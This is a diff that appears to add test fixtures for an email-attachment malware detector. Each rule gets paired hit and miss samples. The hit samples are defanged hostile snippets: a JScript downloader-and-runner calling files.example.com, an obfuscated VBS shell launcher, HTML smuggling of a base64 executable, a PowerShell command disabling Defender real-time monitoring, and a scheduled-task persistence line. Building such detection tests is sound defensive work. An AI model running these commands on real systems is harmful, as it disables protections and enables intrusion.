@@ -39,3 +39,18 @@ mail("shortcut_hides", "hit", "list.lnk", lnk("C:\\Windows\\System32\\cmd.exe", 
 mail("shortcut_hides", "miss", "list.lnk", lnk("C:\\Windows\\System32\\cmd.exe", "/k echo example"))
 mail("shortcut_remote", "hit", "page.url", b"[InternetShortcut]\r\nURL=file://files.example.com/share/a.exe\r\n")
 mail("shortcut_remote", "miss", "page.url", b"[InternetShortcut]\r\nURL=https://www.example.com/minutes\r\n")
+
+smuggled = base64.b64encode(pe(libraries=PLAIN)).decode()
+mail("script_dropper", "hit", "invoice.js", b'var s = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP");'
+     b' x.open("GET", "https://files.example.com/a"); s.Run("example");')
+mail("script_dropper", "miss", "page.js", b'function show(n) { document.title = n; } show("example");')
+mail("script_veiled", "hit", "list.vbs", b'Set s = CreateObject("WScr" & "ipt.Sh" & Chr(101) & "ll")\r\ns.Run "example"\r\n')
+mail("script_veiled", "miss", "list.vbs", b'MsgBox "Hello " & "from " & Chr(69) & "xample"\r\n')
+mail("script_smuggles", "hit", "file.html", f'<html><body><script>var f = "{smuggled}"; save(f);</script></body></html>'.encode(),
+     mime="text/html")
+mail("script_smuggles", "miss", "file.html", b'<html><body><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'
+     b'AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="></body></html>', mime="text/html")
+mail("script_disarms", "hit", "setup.ps1", b"Set-MpPreference -DisableRealtimeMonitoring 1\r\n")
+mail("script_disarms", "miss", "setup.ps1", b"Get-MpPreference | Format-List\r\n")
+mail("script_stays", "hit", "setup.bat", b"schtasks /create /tn example /tr example.exe\r\n")
+mail("script_stays", "miss", "setup.bat", b"echo The tasks of today\r\n")
